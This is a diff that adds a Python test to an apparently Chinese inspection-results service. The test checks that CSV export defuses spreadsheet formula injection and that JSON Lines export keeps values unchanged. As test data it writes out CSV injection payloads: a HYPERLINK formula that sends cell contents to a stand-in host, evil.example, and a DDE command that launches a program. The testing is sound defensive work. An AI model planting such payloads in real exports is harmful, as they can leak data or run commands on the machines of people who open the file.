@@ -127,3 +127,42 @@ async def test_atom_feed_lists_publications_but_not_withdrawn(client) -> None:
     assert "撤回的荣誉企业" not in r.text
     titles = [e.find(f"{ATOM}title").text for e in root.findall(f"{ATOM}entry")]
     assert any(t.startswith("[抽查计划] 聊城市2025年度") for t in titles)
+
+
+async def test_csv_export_neutralises_formula_cells_and_jsonl_keeps_them(client) -> None:
+    """Issue 13 item 6: a published text that a spreadsheet would run as a formula reaches the
+    CSV reader as text (leading apostrophe), while JSON Lines carries it unchanged."""
+    h = await sign_in(client, "officer1", "officer", department_code=DEPT)
+    hostile = {
+        "entity_name": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+        "follow_up": "+cmd|' /C calc'!A0",
+        "penalty_decision_number": "@SUM(1+1)",
+    }
+    items = [
+        result_payload(make_uscc(seed=7001), task="-2+3", **hostile),
+        result_payload(make_uscc(seed=7002), task="EX-TAB"),
+        result_payload(make_uscc(seed=7003), task="EX-OK", entity_name="聊城市正常商贸有限公司"),
+    ]
+    r = await client.post("/api/v1/admin/results/bulk", json={"items": items}, headers=h)
+    assert r.status_code == 201, r.text
+    # The API strips surrounding whitespace; text stored before that (or by another path) may not.
+    await Result.update({Result.task_number: "\t=1+1"}).where(Result.id == r.json()["ids"][1])
+    rows = {
+        row["uscc"]: row
+        for row in csv.DictReader(
+            io.StringIO((await client.get("/api/v1/exports/results.csv")).content.decode("utf-8-sig"), newline="")
+        )
+    }
+    jsonl = {
+        d["uscc"]: d
+        for d in (json.loads(x) for x in (await client.get("/api/v1/exports/results.jsonl")).text.splitlines())
+    }
+    first, second, plain = (rows[i["uscc"]] for i in items)
+    assert first["task_number"] == "'-2+3"
+    for field, value in hostile.items():
+        assert first[field] == "'" + value
+        assert jsonl[items[0]["uscc"]][field] == value
+    assert second["task_number"] == "'\t=1+1"
+    assert plain["task_number"] == "EX-OK" and plain["entity_name"] == "聊城市正常商贸有限公司"
+    for row in rows.values():  # no cell of any row starts a formula
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
